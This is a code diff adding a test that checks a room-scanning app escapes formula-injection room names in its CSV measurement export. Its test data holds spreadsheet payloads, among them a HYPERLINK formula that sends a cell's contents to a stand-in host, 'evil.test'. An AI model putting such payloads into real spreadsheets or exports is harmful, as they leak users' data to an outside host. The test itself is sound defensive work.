@@ -55,6 +55,26 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
     expect((await get(ws('/scans?scans=all'))).body).toContain('<td data-label="Floor area" class="num">20.5 m²</td>');
   });
 
+  it('room names that a spreadsheet would run are guarded in the CSV; the numbers stay numbers', async () => {
+    const names = ['=HYPERLINK("http://evil.test/?"&A1,"click")', '@SUM(1+1)', '+1+2;=3'];
+    const rooms = names.map((name, i) => ({ name, ...rectangularRoom({ width: 4, length: 2 + i, height: 2.5 }) }));
+    const up = await f.app.inject({ method: 'POST', url: '/api/scan/upload', headers: { 'x-scan-key': f.home.uploadKey, 'content-type': 'application/json' }, payload: JSON.stringify({ rooms }) });
+    expect(up.statusCode).toBe(200);
+    const hostileId = (await f.world.store.db.selectFrom('scan_rooms').select('scan_id').where('name', '=', '@SUM(1+1)').executeTakeFirstOrThrow()).scan_id;
+    const csv = await get(ws(`/scans/${hostileId}/measurements.csv`));
+    expect(csv.statusCode).toBe(200);
+    const rows = parse(csv.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;
+    expect(rows.map((r) => r.name)).toEqual([`'=HYPERLINK("http://evil.test/?"&A1,"click")`, "'@SUM(1+1)", "'+1+2;'=3"]);
+    expect(rows.map((r) => [r.room, r.floorArea_m2, r.perimeter_m, r.doors])).toEqual([
+      ['1', '8.0', '12.00', '0'],
+      ['2', '12.0', '14.00', '0'],
+      ['3', '16.0', '16.00', '0'],
+    ]);
+    // No cell, split on `;` or `,` as some spreadsheets do, begins a formula.
+    const text = csv.rawPayload.toString('utf8');
+    for (const part of text.split(/[;,\r\n]/)) expect(part.replace(/^"/, '').trimStart()).not.toMatch(/^[=+@]/);
+  });
+
   it('imperial units: ft² and feet-and-inches everywhere, from the same kept figures', async () => {
     await f.app.inject({
       method: 'POST',
